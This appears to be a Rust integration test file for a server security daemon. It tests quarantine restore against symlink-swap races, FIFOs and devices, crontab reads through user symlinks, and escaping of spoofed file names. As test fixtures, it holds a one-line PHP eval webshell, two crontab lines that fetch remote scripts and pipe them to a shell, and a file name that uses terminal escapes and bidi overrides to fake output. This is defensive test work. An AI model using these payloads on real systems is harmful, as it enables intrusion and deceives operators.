//! Quarantine and file safety under attack (issue 9, items 1 and 5), through the real binary:
//! restore with a directory swapped for a symlink before the restore and right after the
//! write, a swapping loop that must never get a write outside the root, FIFOs and devices in
//! place of files, a user symlink in the middle of a path read by the checks, and file names
//! with terminal escapes in `svc quarantine list`. These tests chown and mknod: they run as
//! root (as the daemon does).

use crate::common::*;

use std::os::unix::fs::{symlink, FileTypeExt, MetadataExt};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use serde_json::Value;

const WEBSHELL: &str = "<?php\n@eval($_POST['cmd']);\n?>\n";

struct Site {
    d: Daemon,
    www: PathBuf,
    outside: PathBuf,
}

/// A daemon with auto-quarantine watching `{dir}/www`, its checks reading `{dir}/fixture`;
/// `{dir}/outside` is a directory outside every root.
fn start(tag: &str, env: &[(&str, &str)]) -> Site {
    let dir = temp_dir(tag);
    let www = dir.join("www");
    let outside = dir.join("outside");
    for p in [&www, &outside, &dir.join("fixture")] {
        std::fs::create_dir_all(p).unwrap();
    }
    let state = dir.join("state");
    let config = dir.join("svc.toml");
    std::fs::write(
        &config,
        format!(
            "{}[files]\nwatch = [{www:?}]\n[logs]\nauth = []\n[checks]\ncritical_interval_min = 0\ndeep_interval_min = 0\nroot = {root:?}\n[auto_response]\nquarantine = true\n",
            base_config(&state),
            www = www.display().to_string(),
            root = dir.join("fixture").display().to_string(),
        ),
    )
    .unwrap();
    let d = Daemon::start_with(dir, config, state, env);
    Site { d, www, outside }
}

/// Moves a webshell in at `path` (as an upload would arrive), owned by 1234:1234.
fn plant(d: &Daemon, path: &Path) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    let staging = d.dir.join(format!("staging-{}", std::process::id()));
    std::fs::write(&staging, WEBSHELL).unwrap();
    std::os::unix::fs::chown(&staging, Some(1234), Some(1234)).unwrap();
    std::fs::rename(&staging, path).unwrap();
}

fn list(d: &Daemon) -> Vec<Value> {
    let out = d.cli(&["quarantine", "list", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    v["items"].as_array().cloned().unwrap_or_default()
}

/// Waits until the file at `path` is in quarantine; returns its id.
fn wait_quarantined(d: &Daemon, path: &Path) -> String {
    let shown = path.to_string_lossy().into_owned();
    let id = wait_until(30, "the quarantine entry", || {
        list(d)
            .iter()
            .find(|q| q["original_path"] == shown.as_str())
            .and_then(|q| q["id"].as_str().map(String::from))
    });
    assert!(std::fs::symlink_metadata(path).is_err(), "moved away");
    id
}

fn entry(d: &Daemon, id: &str) -> Value {
    list(d)
        .into_iter()
        .find(|q| q["id"] == id)
        .expect("the entry is listed")
}

/// Everything below `dir`, for messages.
fn tree(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(p) = stack.pop() {
        if let Ok(rd) = std::fs::read_dir(&p) {
            for e in rd.flatten() {
                if e.file_type().is_ok_and(|t| t.is_dir()) {
                    stack.push(e.path());
                }
                out.push(e.path());
            }
        }
    }
    out
}

/// The attack: the webshell at `www/s2/a/b/f.php` is quarantined, then `www/s2` becomes a
/// symlink to a directory outside the root. Restore must refuse, naming `s2`, and write or
/// create nothing outside; once the tree is sane again it restores.
#[test]
fn restore_refuses_a_directory_swapped_for_a_symlink() {
    let s = start("q-swapped", &[]);
    let shell = s.www.join("s2/a/b/f.php");
    plant(&s.d, &shell);
    let id = wait_quarantined(&s.d, &shell);
    std::fs::remove_dir_all(s.www.join("s2")).unwrap();
    symlink(&s.outside, s.www.join("s2")).unwrap();

    let out = s.d.cli(&["quarantine", "restore", &id]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!("{} is a symlink", s.www.join("s2").display())),
        "{err}"
    );
    assert!(err.contains("stays in quarantine"), "{err}");
    assert!(tree(&s.outside).is_empty(), "{:?}", tree(&s.outside));
    assert!(entry(&s.d, &id)["restored_at"].is_null());
    assert!(s.d.state.join("quarantine").join(&id).exists());

    std::fs::remove_file(s.www.join("s2")).unwrap();
    let out = s.d.cli(&["quarantine", "restore", &id]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(std::fs::read_to_string(&shell).unwrap(), WEBSHELL);
    let m = std::fs::metadata(s.www.join("s2/a")).unwrap();
    assert_eq!(
        (m.uid(), m.mode() & 0o777),
        (1234, 0o755),
        "recreated for the owner"
    );
}

/// The race, driven deterministically: the daemon (a debug build) pauses right after the
/// file is in place (`SVC_TEST_RESTORE_PAUSE`); the test then moves `www/s2` out of the root
/// and leaves a symlink. The check after the write must catch it, take the file back into
/// quarantine and remove the directories it made, wherever they went.
#[test]
fn restore_undoes_a_directory_swapped_right_after_the_write() {
    let pause_dir = temp_dir("q-pause");
    let pause = pause_dir.join("pause");
    let s = start(
        "q-race",
        &[("SVC_TEST_RESTORE_PAUSE", pause.to_str().unwrap())],
    );
    let shell = s.www.join("s2/a/b/f.php");
    plant(&s.d, &shell);
    let id = wait_quarantined(&s.d, &shell);
    std::fs::remove_dir_all(s.www.join("s2/a")).unwrap();

    let restore = {
        let (bin, config, id) = (svc_bin(), s.d.config.clone(), id.clone());
        std::thread::spawn(move || {
            std::process::Command::new(bin)
                .args(["quarantine", "restore", &id, "-c"])
                .arg(config)
                .output()
                .unwrap()
        })
    };
    wait_until(30, "the restore to pause after the write", || {
        pause.with_extension("reached").exists().then_some(())
    });
    assert!(
        s.www.join("s2/a/b/f.php").exists(),
        "the file is in place at the pause"
    );
    std::fs::rename(s.www.join("s2"), s.outside.join("s2")).unwrap();
    symlink(&s.outside, s.www.join("s2")).unwrap();
    std::fs::write(pause.with_extension("go"), b"").unwrap();
    let out = restore.join().unwrap();

    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(
        err.contains(&format!(
            "{} was replaced by a symlink during the restore",
            s.www.join("s2").display()
        )),
        "{err}"
    );
    assert!(err.contains("put back into quarantine"), "{err}");
    // Nothing the restore wrote or made is left outside the root.
    assert_eq!(
        tree(&s.outside),
        vec![s.outside.join("s2")],
        "only the attacker's own move"
    );
    assert!(entry(&s.d, &id)["restored_at"].is_null());
    let copy = s.d.state.join("quarantine").join(&id);
    let m = std::fs::metadata(&copy).unwrap();
    assert_eq!((m.uid(), m.mode() & 0o777), (0, 0o600), "locked down again");
    let _ = std::fs::remove_dir_all(pause_dir);
}

/// A swapping loop: while a thread keeps replacing `www/s2` by a symlink to a directory
/// outside the root and back (atomically; the real directory stays inside, as `s2.real`),
/// restores run
/// one after the other. Whatever interleaving happens, nothing ever appears outside the
/// root, and each restore either put its file at its path or refused naming `s2`.
#[test]
fn restores_racing_a_swapping_loop_never_write_outside() {
    let s = start("q-loop", &[]);
    let b = s.www.join("s2/a/b");
    std::fs::create_dir_all(&b).unwrap();
    let lock = Arc::new(parking_lot::Mutex::new(()));
    let stop = Arc::new(AtomicBool::new(false));
    // `s2.real` is a symlink to the outside; RENAME_EXCHANGE swaps it with the directory
    // `s2` atomically (there is never a moment without `s2`), and back.
    symlink(&s.outside, s.www.join("s2.real")).unwrap();
    let swapper = {
        let (lock, stop) = (lock.clone(), stop.clone());
        let (s2, real) = (s.www.join("s2"), s.www.join("s2.real"));
        let exchange = move || {
            nix::fcntl::renameat2(
                None,
                &s2,
                None,
                &real,
                nix::fcntl::RenameFlags::RENAME_EXCHANGE,
            )
            .unwrap()
        };
        std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !stop.load(Ordering::SeqCst) {
                {
                    let _g = lock.lock();
                    exchange();
                    std::thread::sleep(std::time::Duration::from_micros(swaps % 7 * 50));
                    exchange();
                }
                swaps += 1;
                // The real directory stays in place for a varying while, so restores see
                // every state: the symlink, the directory, and a swap in the middle.
                std::thread::sleep(std::time::Duration::from_micros(swaps % 5 * 100));
            }
            swaps
        })
    };
    let (mut restored, mut refused) = (0, 0);
    let mut reasons = std::collections::BTreeMap::new();
    for i in 0..16 {
        let shell = b.join(format!("f{i}.php"));
        let id = {
            let _g = lock.lock();
            plant(&s.d, &shell);
            wait_quarantined(&s.d, &shell)
        };
        let out = s.d.cli(&["quarantine", "restore", &id]);
        let _g = lock.lock();
        assert!(tree(&s.outside).is_empty(), "{:?}", tree(&s.outside));
        assert!(std::fs::symlink_metadata(s.www.join("s2"))
            .unwrap()
            .is_dir());
        if out.status.success() {
            restored += 1;
            // At its path; or the file watcher quarantined it again under a new id: the
            // swapping loop can show it the restored file at `s2.real/...`, or make its
            // check of the restored content miss while `s2` is the symlink.
            let paths = [
                shell.to_string_lossy().into_owned(),
                s.www
                    .join(format!("s2.real/a/b/f{i}.php"))
                    .to_string_lossy()
                    .into_owned(),
            ];
            wait_until(20, "the restored file, or its new quarantine entry", || {
                let at_path = std::fs::read_to_string(&shell).is_ok_and(|t| t == WEBSHELL);
                let requarantined = list(&s.d).iter().any(|q| {
                    q["id"] != id.as_str() && paths.iter().any(|p| q["original_path"] == p.as_str())
                });
                (at_path || requarantined).then_some(())
            });
        } else {
            refused += 1;
            let err = String::from_utf8_lossy(&out.stderr);
            assert!(err.contains("s2"), "the component is named: {err}");
            let why = if err.contains("during the restore") {
                "swapped after the write"
            } else if err.contains("is a symlink") {
                "symlink before"
            } else {
                "other"
            };
            *reasons.entry(why).or_insert(0) += 1;
            // The file went back into quarantine, or (when the swap had already carried it
            // to `s2.real`) the file watcher quarantined it again from there.
            assert!(!shell.exists(), "{err}");
        }
    }
    stop.store(true, Ordering::SeqCst);
    let swaps = swapper.join().unwrap();
    eprintln!("swapping loop: {swaps} swaps, {restored} restored, {refused} refused {reasons:?}");
    assert!(tree(&s.outside).is_empty());
}

/// A FIFO and a character device moved in under `.php` names are never opened (a blocking
/// open would stall the analyzer) nor quarantined; the analyzer keeps working. A FIFO at the
/// original path stops a restore and is left alone.
#[test]
fn fifos_and_devices_in_place_of_files_are_left_alone() {
    let s = start("q-fifo", &[]);
    let staging = s.d.dir.join("staging");
    std::fs::create_dir_all(&staging).unwrap();
    let fifo = staging.join("pipe.php");
    let dev = staging.join("null.php");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    assert!(std::process::Command::new("mknod")
        .args([dev.as_os_str(), "c".as_ref(), "1".as_ref(), "3".as_ref()])
        .status()
        .unwrap()
        .success());
    std::fs::rename(&fifo, s.www.join("pipe.php")).unwrap();
    std::fs::rename(&dev, s.www.join("null.php")).unwrap();
    let shell = s.www.join("after.php");
    plant(&s.d, &shell);
    let id = wait_quarantined(&s.d, &shell);
    assert!(std::fs::symlink_metadata(s.www.join("pipe.php"))
        .unwrap()
        .file_type()
        .is_fifo());
    assert!(std::fs::symlink_metadata(s.www.join("null.php"))
        .unwrap()
        .file_type()
        .is_char_device());
    assert_eq!(list(&s.d).len(), 1, "only the webshell");

    assert!(std::process::Command::new("mkfifo")
        .arg(&shell)
        .status()
        .unwrap()
        .success());
    let out = s.d.cli(&["quarantine", "restore", &id]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("exists"), "{err}");
    assert!(std::fs::symlink_metadata(&shell)
        .unwrap()
        .file_type()
        .is_fifo());
}

/// The checks read user crontabs; a user's symlink in the middle of the path
/// (`var/spool/cron -> elsewhere`) is not followed, so a crontab the check must not trust is
/// not read. The system crontab still is.
#[test]
fn checks_do_not_read_through_a_user_symlink_in_the_middle_of_a_path() {
    let s = start("q-fsread", &[]);
    let fixture = s.d.dir.join("fixture");
    std::fs::create_dir_all(fixture.join("etc")).unwrap();
    std::fs::write(
        fixture.join("etc/crontab"),
        "*/5 * * * * root curl -s http://203.0.113.7/x.sh | sh\n",
    )
    .unwrap();
    let elsewhere = s.outside.join("cron");
    std::fs::create_dir_all(elsewhere.join("crontabs")).unwrap();
    std::fs::write(
        elsewhere.join("crontabs/alice"),
        "* * * * * wget -q -O- http://198.51.100.9/p | bash\n",
    )
    .unwrap();
    std::fs::create_dir_all(fixture.join("var/spool")).unwrap();
    let link = fixture.join("var/spool/cron");
    symlink(&elsewhere, &link).unwrap();
    std::os::unix::fs::lchown(&link, Some(1234), Some(1234)).unwrap();

    let out = s.d.cli(&["check", "--json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    let crons: Vec<&Value> = v["job"]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["check"] == "suspicious_cron")
        .collect();
    assert!(
        crons
            .iter()
            .any(|f| f["message"].as_str().unwrap().contains("etc/crontab")),
        "{crons:?}"
    );
    assert!(
        !crons
            .iter()
            .any(|f| f.to_string().contains("alice") || f.to_string().contains("198.51.100.9")),
        "read through the user's symlink: {crons:?}"
    );
}

/// File names with terminal escapes, a newline and a right-to-left override reach
/// `svc quarantine list` escaped, one line per entry; `--json` keeps the exact name.
#[test]
fn quarantine_list_escapes_control_and_bidi_characters() {
    let s = start("q-names", &[]);
    let name = "x\x1b[2J\x1b[31m\nFAKE 0 quarantined files\u{202e}gpj.php";
    let shell = s.www.join(name);
    plant(&s.d, &shell);
    let id = wait_quarantined(&s.d, &shell);

    let out = s.d.cli(&["quarantine", "list"]);
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    for bad in ['\x1b', '\u{202e}', '\r'] {
        assert!(!text.contains(bad), "{text:?}");
    }
    assert_eq!(text.lines().count(), 2, "one entry and the total: {text:?}");
    assert!(
        text.contains("x\\x1b[2J\\x1b[31m\\nFAKE 0 quarantined files\\u{202e}gpj.php"),
        "{text}"
    );
    assert!(text.contains(&id));

    // JSON keeps the exact bytes (escaped by JSON).
    assert_eq!(
        entry(&s.d, &id)["original_path"],
        shell.to_string_lossy().as_ref()
    );
    // The daemon's own log line about it is escaped as well.
    let log = s.d.stderr();
    let line = log
        .lines()
        .find(|l| l.contains("quarantined ") && l.contains(&id))
        .unwrap_or_else(|| panic!("no quarantine log line: {log}"));
    assert!(line.contains("\\x1b[2J"), "{line}");

    // Restoring prints the path escaped too.
    let out = s.d.cli(&["quarantine", "restore", &id]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(text.lines().count(), 1, "{text:?}");
    assert!(
        !text.contains('\x1b') && !text.contains('\u{202e}'),
        "{text:?}"
    );
    assert_eq!(std::fs::read_to_string(&shell).unwrap(), WEBSHELL);
}
